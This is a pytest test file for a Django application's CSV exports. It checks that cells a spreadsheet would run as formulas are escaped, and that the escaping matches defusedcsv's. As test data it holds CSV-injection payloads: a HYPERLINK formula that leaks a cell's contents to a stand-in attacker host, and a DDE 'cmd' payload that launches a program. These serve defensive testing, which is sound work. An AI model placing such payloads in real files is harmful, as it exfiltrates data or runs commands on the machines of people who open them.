"""Every CSV Kindred writes neutralises cells that a spreadsheet would run as a formula."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from defusedcsv import csv as defused
from django.utils.safestring import mark_safe
from django.utils.translation import gettext_lazy

from kindred.accounts.models import User
from kindred.audit.services import audit
from kindred.core.csv_export import csv_writer, spreadsheet_safe
from kindred.evidence.exports import write_csv
from kindred.schools.models import School

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.mark.parametrize(
    "cell", [HOSTILE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1", "\r=1", "|x", "%x"]
)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(cell):
    assert spreadsheet_safe(cell) == "'" + cell.replace("|", "\\|")


@pytest.mark.parametrize("cell", ["Xavier Primary", "-0.25", "12", -3.5, 7, "", None, "a=b"])
def test_ordinary_cells_and_numbers_are_left_alone(cell):
    assert spreadsheet_safe(cell) == cell


def test_the_writer_escapes_every_cell_of_every_row():
    stream = io.StringIO()
    csv_writer(stream).writerows([["name", "pupils"], [HOSTILE, -4]])
    rows = list(csv.reader(io.StringIO(stream.getvalue())))
    assert rows == [["name", "pupils"], ["'" + HOSTILE, "-4"]]


CELLS = [
    HOSTILE,
    "+1",
    "-2+3",
    "-0.25",
    "@x",
    "|x",
    "%x",
    "\t=1",
    "\r=1",
    "'=1",
    "a|b",
    "",
    "ok",
    None,
    7,
    -3.5,
    True,
    Decimal("-1.5"),
    date(2024, 9, 1),
    mark_safe("=1"),
    gettext_lazy("Red"),
]


def test_each_cell_is_escaped_as_defusedcsv_escapes_it_and_no_differently():
    """The writer escapes each cell once (core.csv_export.spreadsheet_safe, with a fast path for
    plain cells); its rows are the ones defusedcsv's own writer wrote around the same escape."""
    ours, theirs = io.StringIO(), io.StringIO()
    csv_writer(ours).writerow(CELLS)
    defused.writer(theirs).writerow(
        ["'" + c if isinstance(c, str) and c.startswith(("\t", "\r")) else c for c in CELLS]
    )
    assert ours.getvalue() == theirs.getvalue()


def test_a_hostile_full_name_is_not_a_formula_in_the_audit_export(client, site_admin):
    person = User.objects.create_user(email="mallory@example.org", password=None, full_name=HOSTILE)
    audit(person, "test.recorded", person)
    client.force_login(site_admin)
    response = client.get("/audit/export.csv", {"action": "test."})
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [row["actor"] for row in rows] == ["'" + HOSTILE]
    assert [row["object"] for row in rows] == ["'" + HOSTILE]


@pytest.mark.parametrize("name", ["=1+1", "+SUM(A1)", "-A1", "@A1"])
def test_an_imported_school_name_is_not_a_formula_in_the_dashboard_csv(client, site_admin, school_x, name):
    School.objects.filter(pk=school_x.pk).update(name=name)
    client.force_login(site_admin)
    response = client.get("/evidence/dashboard/", {"format": "csv"})
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [row["name"] for row in rows] == ["'" + name]


def test_the_evidence_exports_escape_too():
    stream = io.StringIO()
    write_csv(stream, ["school_id"], [["=1"]])
    assert stream.getvalue().splitlines() == ["school_id", "'=1"]
